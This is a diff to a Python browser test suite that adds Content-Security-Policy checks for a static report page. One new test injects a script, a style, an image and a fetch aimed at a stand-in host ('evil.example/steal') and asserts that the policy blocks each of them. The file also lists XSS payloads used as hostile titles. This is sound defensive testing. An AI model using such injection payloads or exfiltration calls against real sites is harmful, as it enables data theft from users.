@@ -1,6 +1,8 @@
 """index.html in a real browser (headless Chromium).
 
-No errors, images decode, the map, search and filters work, hostile titles stay text (no alert fires).
+No errors, images decode, the map, search and filters work, hostile titles stay text (no alert fires), all
+under the page's Content-Security-Policy: nothing it does is refused, and what it does not do (a script,
+style or image slipped in, a request anywhere) is.
 """
 
 from __future__ import annotations
@@ -23,6 +25,10 @@ CHROMIUM = "/usr/bin/chromium"
 REPO = Path(__file__).resolve().parents[1]
 ARTIFACTS = Path(__file__).resolve().parent / "_artifacts"
 HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
+# records what the page's Content-Security-Policy refuses (the browser's own evaluation is not subject to it)
+WATCH_CSP = """window.__csp = [];
+document.addEventListener("securitypolicyviolation",
+  e => window.__csp.push(e.effectiveDirective + " " + (e.blockedURI || "")));"""
 FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
          "--disable-component-update", "--disable-sync", "--no-first-run"]
 
@@ -76,6 +82,7 @@ def page(browser, report):
     page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
     page.on("request", lambda r: page.problems.append(f"network: {r.url}")
             if not r.url.startswith(("file:", "data:")) else None)
+    page.add_init_script(WATCH_CSP)
     page.goto(index.as_uri())
     page.wait_for_load_state("load")
     yield page
@@ -84,6 +91,7 @@ def page(browser, report):
 
 def test_loads_without_errors_and_images_decode(page):
     assert page.problems == []
+    assert page.evaluate("window.__csp") == []  # the policy refused nothing of the page's own
     sizes = page.eval_on_selector_all("img", "els => els.map(e => [e.complete, e.naturalWidth])")
     assert len(sizes) >= 5
     assert all(complete and width > 0 for complete, width in sizes), sizes
@@ -318,4 +326,41 @@ def test_theme_overview_breaks_no_word(browser, report, width):
     assert page.evaluate(f"{root}.scrollWidth - {root}.clientWidth") <= 1
     ARTIFACTS.mkdir(exist_ok=True)
     page.locator("#named-themes").screenshot(path=str(ARTIFACTS / f"theme-overview-{width}.png"))
+    page.close()
+
+
+def test_the_policy_lets_nothing_in_or_out(browser, report):
+    """What a future escaping slip could put in the page does not run, style or load: a script or style
+    block that is not the page's own, an image from the network, a request from the page's script."""
+    index, _ = report
+    page = browser.new_page()
+    requests, blocked = [], []
+    page.on("request", lambda r: requests.append(r.url))
+    page.on("requestfailed", lambda r: blocked.append((r.url, r.failure)))
+    page.add_init_script(WATCH_CSP)
+    page.goto(index.as_uri())
+    page.wait_for_load_state("load")
+    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
+    assert policy.startswith("default-src 'none'; ") and "unsafe-inline" not in policy
+    assert page.evaluate("window.__csp") == []
+    page.evaluate("""() => {
+      const script = document.createElement("script");
+      script.textContent = "window.__ran = true;";
+      document.body.appendChild(script);
+      const style = document.createElement("style");
+      style.textContent = "body { background: rgb(255, 0, 0); }";
+      document.head.appendChild(style);
+      document.body.insertAdjacentHTML("beforeend",
+        '<img src="https://evil.example/pixel.png"><p id="styled" style="color: rgb(255, 0, 0)">x</p>');
+      fetch("https://evil.example/steal").catch(() => {});
+    }""")
+    page.wait_for_function("window.__csp.length >= 5")
+    refused = page.evaluate("window.__csp")
+    assert page.evaluate("window.__ran === undefined")
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
+    assert page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(255, 0, 0)"
+    for directive in ("script-src-elem", "style-src-elem", "style-src-attr", "img-src", "connect-src"):
+        assert any(r.startswith(directive) for r in refused), (directive, refused)
+    outside = [url for url in requests if not url.startswith(("file:", "data:"))]
+    assert outside and sorted(outside) == sorted(url for url, why in blocked if why == "csp")  # none sent
     page.close()
